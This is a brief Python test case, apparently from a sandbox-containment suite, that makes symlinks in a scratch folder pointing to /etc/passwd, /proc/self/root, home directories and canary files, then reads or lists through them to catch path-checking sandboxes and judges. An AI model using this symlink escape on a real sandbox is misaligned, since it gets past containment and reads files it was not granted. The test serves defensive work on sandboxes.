# Makes symbolic links in the scratch folder that point outside, and reads and lists through them.
# A sandbox that checks paths as text, or a judge that opens what the program left, follows them.
# contained: passed
# in the open: succeeds
def attack():
    targets = [
        *TARGET["canaries"],
        *TARGET["homes"],
        "/etc/passwd",
        "/proc/self/root",
        "/proc/self/cwd",
    ]
    for i, target in enumerate(targets):
        link = f"hostile-link-{os.getpid()}-{i}"
        try:
            os.symlink(target, link)
        except OSError:
            continue
        got = first(
            {"read": lambda link=link: open(link).read(), "list": lambda link=link: os.listdir(link)}
        )
        os.unlink(link)
        if got:
            return f"{target}: {got}"
    return None
